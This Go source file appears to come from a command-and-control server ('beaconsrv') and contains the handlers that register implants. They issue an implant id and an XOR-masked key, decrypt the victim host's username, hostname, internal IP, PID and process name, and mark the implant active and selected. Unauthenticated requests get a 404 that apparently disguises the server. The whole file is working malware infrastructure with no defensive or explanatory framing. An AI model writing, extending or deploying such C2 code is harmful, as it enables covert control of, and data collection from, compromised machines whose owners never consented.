package handlers

import (
	"encoding/json"
	"net/http"

	"github.com/duskrelay/beaconsrv/envelope"
	"github.com/duskrelay/beaconsrv/idgen"
	"github.com/duskrelay/beaconsrv/implant"
	"github.com/duskrelay/beaconsrv/notify"
	"github.com/duskrelay/beaconsrv/reqauth"
	"github.com/duskrelay/beaconsrv/safeio"
)

// registrationPayload is the decrypted body of the registration POST
// (spec §4.5: i, u, h, o, p, P, r).
type registrationPayload struct {
	IPInternal  string `json:"i"`
	Username    string `json:"u"`
	Hostname    string `json:"h"`
	OSBuild     string `json:"o"`
	PID         int    `json:"p"`
	ProcessName string `json:"P"`
	RiskyMode   bool   `json:"r"`
}

type envelopeRequest struct {
	Data string `json:"data"`
}

// RegisterGet handles GET register_path: creates a fresh NEW-state record
// and hands the implant its id and XOR-masked key.
func RegisterGet(deps *Deps) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		res := reqauth.Authenticate(r, deps.Shib, deps.Notifier)
		if !res.OK {
			notFound(w)
			return
		}

		key, err := envelope.GenerateKey()
		if err != nil {
			notFound(w)
			return
		}
		id := idgen.New()
		rec := implant.New(id, key)
		if res.Workspace != "" {
			rec.SetWorkspaceIfAbsent(res.Workspace)
		}
		deps.Registry.Add(rec)
		deps.Notifier.Notify(notify.Event{Kind: notify.KindRegistration, ImplantID: id, RemoteAddr: r.RemoteAddr})

		masked, err := envelope.MaskedKeyB64(key, deps.XORKey)
		if err != nil {
			notFound(w)
			return
		}
		writeJSON(w, http.StatusOK, map[string]string{"id": id, "k": masked})
	}
}

// RegisterPost handles POST register_path: activates a NEW-state record
// with the decrypted identification fields.
func RegisterPost(deps *Deps) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		res, rec, found := authenticate(r, deps)
		if !found {
			notFound(w)
			return
		}

		body, err := safeio.LimitedReadAll(r.Body, safeio.MaxResponseBody)
		if err != nil {
			notFound(w)
			return
		}
		var envReq envelopeRequest
		if err := json.Unmarshal(body, &envReq); err != nil {
			deps.Notifier.ReportBadRequest(r.Context(), reqauth.BadKey, r.RemoteAddr, res.ImplantID)
			notFound(w)
			return
		}

		plaintext, err := envelope.DecryptToBytes(envReq.Data, rec.EncryptionKey())
		if err != nil {
			deps.Notifier.ReportBadRequest(r.Context(), reqauth.BadKey, r.RemoteAddr, res.ImplantID)
			notFound(w)
			return
		}
		var payload registrationPayload
		if err := json.Unmarshal(plaintext, &payload); err != nil {
			deps.Notifier.ReportBadRequest(r.Context(), reqauth.BadKey, r.RemoteAddr, res.ImplantID)
			notFound(w)
			return
		}

		if res.Workspace != "" {
			rec.SetWorkspaceIfAbsent(res.Workspace)
		}

		hadActive := deps.Registry.HasActive()
		activated := rec.Activate(implant.ActivationFields{
			IPInternal:  payload.IPInternal,
			Username:    payload.Username,
			Hostname:    payload.Hostname,
			OSBuild:     payload.OSBuild,
			PID:         payload.PID,
			ProcessName: payload.ProcessName,
			RiskyMode:   payload.RiskyMode,
		}, externalIP(r, deps.TrustProxy))

		if activated {
			// Reselect whenever nothing was active before this check-in, so a
			// dead selection is replaced rather than sticking forever (spec
			// §4.2; mirrors the original's reselect-if-nothing-active rule).
			if !hadActive {
				deps.Registry.Select(rec.ID())
			}
			detail, _ := json.Marshal(payload)
			deps.Notifier.Notify(notify.Event{
				Kind: notify.KindActivation, ImplantID: rec.ID(), RemoteAddr: r.RemoteAddr,
				Detail: string(detail),
			})
		} else {
			// A replayed registration POST on an already-active record still
			// counts as a check-in (spec doesn't distinguish the two paths
			// for liveness purposes).
			rec.Touch()
		}

		if err := deps.Store.InitializeImplant(r.Context(), rec.Snapshot(), deps.ServerID); err != nil {
			logStoreErr(r.Context(), "initialize implant", err)
		}
		if err := deps.Store.LogCheckin(r.Context(), rec.ID(), true, ""); err != nil {
			logStoreErr(r.Context(), "log checkin", err)
		}

		ok(w)
	}
}
